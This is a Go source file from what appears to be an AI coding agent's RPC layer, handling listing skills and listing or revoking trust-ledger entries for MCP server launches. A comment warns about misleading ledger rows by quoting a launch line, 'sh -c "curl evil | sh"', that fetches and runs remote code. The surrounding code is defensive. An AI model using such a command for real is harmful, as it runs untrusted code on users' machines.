package rpc

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"

	"github.com/kin-dev/kin/agent"
	"github.com/kin-dev/kin/agent/ledger"
	"github.com/kin-dev/kin/agent/permission"
	"github.com/kin-dev/kin/mcp/trust"
)

// This file is the wire side of skills and of the one trust ledger:
// skills/list, trust/list and trust/revoke (the project_trust and
// mcp_skill approvals travel as every approval does).

func handleSkillsList(ctx context.Context, s *Server, params json.RawMessage) (any, error) {
	var p SkillsListParams
	if err := decode(params, &p); err != nil {
		return nil, err
	}
	svc, _ := s.service()
	list, err := svc.Skills(p.SessionID, s.workspace())
	if err != nil {
		return nil, err
	}
	return skillsResult(list), nil
}

// skillsResult is skills/list's result, and /skills' (commandData).
func skillsResult(list []agent.SkillInfo) SkillsListResult {
	out := SkillsListResult{Skills: []SkillInfo{}}
	for _, sk := range list {
		out.Skills = append(out.Skills, SkillInfo{Name: sk.Name, Description: sk.Description, Source: sk.Source, Path: sk.Path,
			Trusted: sk.Trusted, AllowedTools: sk.AllowedTools, Shadows: sk.Shadows})
	}
	return out
}

func handleTrustList(ctx context.Context, s *Server, _ json.RawMessage) (any, error) {
	return TrustList(s.opts.Home)
}

func handleTrustRevoke(ctx context.Context, s *Server, params json.RawMessage) (any, error) {
	var p TrustRevokeParams
	if err := decode(params, &p); err != nil {
		return nil, err
	}
	if p.ID == "" {
		return nil, invalid("invalid params: id is required")
	}
	if err := TrustRevoke(s.opts.Home, p.ID); err != nil {
		return nil, err
	}
	return Empty{}, nil
}

// TrustList is every entry of the ledger in KIN_HOME home: the MCP
// launches (one row per server name and project, each with the launch line
// trusted there) and the items. kin trust list shows the same. One row per
// name, with the first grant's launch line and every project joined, read
// "fs (node a.js) in /a, /b" when /b's fs runs sh -c "curl evil | sh".
func TrustList(home string) (TrustListResult, error) {
	l := ledger.Open(home)
	if err := l.Check(); err != nil {
		return TrustListResult{}, err
	}
	out := TrustListResult{Entries: []TrustEntry{}}
	for _, e := range trust.Open(home).List() {
		out.Entries = append(out.Entries, TrustEntry{ID: "trust:" + e.Name, Kind: "mcp_launch", Project: e.Project, Name: e.Name,
			Digest: e.Hash, Display: e.Display, TrustedAt: e.TrustedAt})
	}
	for _, it := range l.Items() {
		out.Entries = append(out.Entries, TrustEntry{ID: it.ID(), Kind: string(it.Kind), Project: it.Project, Path: it.Path, Name: it.Name,
			Digest: it.Digest, Display: it.Display, TrustedAt: it.TrustedAt})
	}
	return out, nil
}

// TrustRevoke forgets an entry of the ledger: "trust:<server>" every
// launch grant of that server, "item:…" one item. What was revoked is
// asked about again before it next runs.
func TrustRevoke(home, id string) error {
	if name, ok := strings.CutPrefix(id, "trust:"); ok {
		err := trust.Open(home).Revoke(name)
		if errors.Is(err, trust.ErrNotFound) {
			return fmt.Errorf("%w: no trust entry %q", errNotFound, id)
		}
		return err
	}
	err := ledger.Open(home).Revoke(id)
	if errors.Is(err, ledger.ErrNotFound) {
		return fmt.Errorf("%w: no trust entry %q", errNotFound, id)
	}
	return err
}

// ErrNotFound says an id names nothing (trust/revoke's -32013).
var ErrNotFound = errNotFound

func trustItems(items []permission.TrustItem) []TrustItem {
	if len(items) == 0 {
		return nil
	}
	out := make([]TrustItem, 0, len(items))
	for _, it := range items {
		out = append(out, TrustItem{Kind: it.Kind, Path: it.Path, Name: it.Name, Digest: it.Digest, Detail: it.Detail, Changed: it.Changed})
	}
	return out
}

// TrustCommand is /trust: the ledger's entries, or "/trust revoke ID".
// Its Data is trust/list's result.
func TrustCommand(home string) agent.FrontCommand {
	return agent.FrontCommand{Command: agent.Command{Name: "trust"}, Run: func(ctx context.Context, _ string, args string) (agent.CommandResult, error) {
		if id, ok := strings.CutPrefix(strings.TrimSpace(args), "revoke "); ok {
			id = strings.TrimSpace(id)
			if err := TrustRevoke(home, id); err != nil {
				return agent.CommandResult{}, err
			}
			return agent.CommandResult{Text: "Revoked " + id + ": kin asks again before it runs or reads it."}, nil
		}
		if strings.TrimSpace(args) != "" {
			return agent.CommandResult{}, fmt.Errorf("%w: /trust takes nothing, or revoke ID", agent.ErrBadParams)
		}
		list, err := TrustList(home)
		if err != nil {
			return agent.CommandResult{}, err
		}
		return agent.CommandResult{Text: TrustText(list), Data: list}, nil
	}}
}

// TrustText lists the ledger for a person (kin chat's /trust, kin trust
// list).
func TrustText(l TrustListResult) string {
	if len(l.Entries) == 0 {
		return "You trusted nothing yet."
	}
	var b strings.Builder
	b.WriteString("Trusted:")
	for _, e := range l.Entries {
		what := e.Name
		if what == "" {
			what = e.Path
		}
		fmt.Fprintf(&b, "\n  %s  %s %s", e.ID, e.Kind, what)
		if e.Display != "" {
			fmt.Fprintf(&b, " (%s)", e.Display)
		}
		if e.Project != "" {
			fmt.Fprintf(&b, " in %s", e.Project)
		}
	}
	return b.String()
}
